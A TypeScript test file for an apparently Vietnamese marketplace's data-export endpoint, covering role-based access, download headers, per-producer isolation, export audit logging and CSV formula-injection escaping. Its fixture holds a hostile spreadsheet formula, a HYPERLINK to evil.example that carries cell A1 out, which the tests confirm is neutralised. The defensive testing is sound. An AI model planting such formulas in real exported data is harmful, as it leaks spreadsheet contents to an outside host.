import { accountId, type Account } from '$lib/domain/accounts/account';
import { unzipSync } from 'fflate';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';

import { Stall } from '../../tests/fixtures/stall';
import { listChanges } from '../audit/list-changes';
import type { Context } from '../context';
import { readXlsx } from '../spreadsheet/read-xlsx';
import { answerExport } from './answer-export';

const FORMULA = '=HYPERLINK("http://evil.example?x="&A1,"Bấm")';
const PERIOD = 'from=2026-11-20&until=2026-11-20';

let stall: Stall;
beforeAll(async () => {
	stall = await Stall.open(3);
	const buyer = stall.payload('').buyer;
	await stall.place(await stall.order({ buyer: { ...buyer, name: FORMULA }, note: '@SUM(A1)' }));
	await stall.place(
		await stall.order({ producerId: stall.neighbour, lines: [stall.line(stall.tea)] }),
	);
});
afterAll(() => stall[Symbol.asyncDispose]());

const person = (roles: Account['roles'], producers: Account['producers'] = []): Account => ({
	id: accountId('somebody'),
	name: 'Ai đó',
	email: null,
	phone: null,
	roles,
	producers,
});

const PEOPLE = (): Readonly<Record<string, Account | null>> => ({
	nobody: null,
	administrator: person(['administrator']),
	reviewer: person(['reviewer']),
	host: person(['host']),
	owner: person([], [{ producerId: stall.producer, role: 'owner' }]),
	packer: person([], [{ producerId: stall.producer, role: 'packer' }]),
	neighbour: person([], [{ producerId: stall.neighbour, role: 'owner' }]),
});

function ask(account: Account | null, what: string, search = ''): Promise<Response> {
	const signedIn = account && { account, signInId: 's1', signedInAt: stall.now };
	const context = {
		...stall.runtime,
		requestId: 'request-1',
		address: '203.0.113.7',
		deviceId: null,
		auth: () => Promise.reject(new Error('not wanted')),
		signedIn: () => Promise.resolve(signedIn),
	} as Context;
	const language = 'vi';
	return answerExport(context, { what, search: new URLSearchParams(search), language });
}

async function bytesOf(response: Response): Promise<Buffer> {
	return Buffer.from(await response.arrayBuffer());
}

const own = () => `producer=${stall.producer}&table=products&format=csv&${PERIOD}`;

describe('who may have what', () => {
	it.each<[string, () => string, readonly string[]]>([
		['everything', () => 'format=zip', ['administrator']],
		['import-template', () => '', ['administrator']],
		[
			'market-figures',
			() => `table=days&format=csv&${PERIOD}`,
			['administrator', 'reviewer', 'host'],
		],
		['producer-figures', own, ['owner']],
	])('%s', async (what, search, allowed) => {
		for (const [name, account] of Object.entries(PEOPLE())) {
			const answer = ask(account, what, search());
			if (allowed.includes(name)) await (await answer).arrayBuffer();
			else {
				const codes = name === 'nobody' ? ['NOT_SIGNED_IN'] : ['FORBIDDEN', 'NOT_FOUND'];
				const refused = await answer.then(
					() => 'handed out',
					(error: { code: string }) => error.code,
				);
				expect(codes, `${what} for ${name}`).toContain(refused);
			}
		}
	});

	it('another producer is not found, whether there is one or not', async () => {
		const { neighbour } = PEOPLE();
		await expect(ask(neighbour ?? null, 'producer-figures', own())).rejects.toMatchObject({
			code: 'NOT_FOUND',
		});
		const nobody = own().replace(/producer=\d+/, 'producer=999');
		await expect(ask(neighbour ?? null, 'producer-figures', nobody)).rejects.toMatchObject({
			code: 'NOT_FOUND',
		});
	});
});

describe('a download', () => {
	it('is saved, never shown, and kept by nobody on the way', async () => {
		const response = await ask(
			person(['administrator']),
			'market-figures',
			`table=days&format=csv&${PERIOD}`,
		);
		expect(Object.fromEntries(response.headers)).toMatchObject({
			'content-type': 'text/csv; charset=utf-8',
			'content-disposition': 'attachment; filename="market-figures-days-2026-11-20-2026-11-20.csv"',
			'x-content-type-options': 'nosniff',
			'cache-control': 'no-store',
		});
		expect((await bytesOf(response)).toString()).toBe(
			'\uFEFFNgày;Số đơn;Giá trị (đồng)\r\n20/11/2026;2;210000\r\n',
		);
	});

	it('of one producer holds that producer only', async () => {
		const { owner } = PEOPLE();
		const text = (await bytesOf(await ask(owner ?? null, 'producer-figures', own()))).toString();
		expect(text).toContain('Mật ong');
		expect(text).not.toContain('Chè');
	});

	it.each(['table=producers', 'table=accounts', 'format=pdf', 'from=x'])(
		'that is not offered is refused: %s',
		async (changed) => {
			const search = new URLSearchParams(own());
			for (const [name, value] of new URLSearchParams(changed)) search.set(name, value);
			const { owner } = PEOPLE();
			await expect(ask(owner ?? null, 'producer-figures', search.toString())).rejects.toMatchObject(
				{ code: expect.stringMatching(/^(?:NOT_FOUND|MALFORMED_REQUEST)$/) as string },
			);
		},
	);
});

describe('everything', () => {
	it('is a workbook of six sheets, and every text in it is a text', async () => {
		const administrator = person(['administrator']);
		const sheets = await readXlsx(
			await bytesOf(await ask(administrator, 'everything', 'format=xlsx')),
		);
		expect(sheets.map(({ name, rows }) => [name, rows.length - 1])).toEqual([
			['Chủ thể', 2],
			['Sản phẩm', 4],
			['Chứng nhận', 1],
			['Lô hàng', 0],
			['Đơn hàng', 2],
			['Dòng đơn hàng', 2],
		]);
		const orders = sheets.find(({ name }) => name === 'Đơn hàng')?.rows.flat() ?? [];
		expect(orders).toContain(FORMULA);
		expect(orders).toContain('0912 345 678');
	});

	it('is an archive of CSVs in which no buyer can leave a formula', async () => {
		const administrator = person(['administrator']);
		const files = unzipSync(await bytesOf(await ask(administrator, 'everything', 'format=zip')));
		const orders = Buffer.from(files['Đơn hàng.csv'] ?? []).toString();
		expect(orders).toContain(`"'=HYPERLINK(""http://evil.example?x=""&A1,'`.slice(0, 20));
		expect(orders).toContain("'@SUM(A1)");
		expect(orders).not.toMatch(/(?:^|[;,\t"])[=@]/m);
	});

	it('is written down before it leaves', async () => {
		const before = { before: null, accountId: null, producerId: null, text: 'data.export' };
		const { entries } = await listChanges(stall.db.database, before);
		await ask(person(['administrator']), 'everything', 'format=xlsx');
		const after = await listChanges(stall.db.database, before);
		expect(after.entries).toHaveLength(entries.length + 1);
		expect(after.entries[0]).toMatchObject({ accountId: 'somebody', after: { format: 'xlsx' } });
	});
});
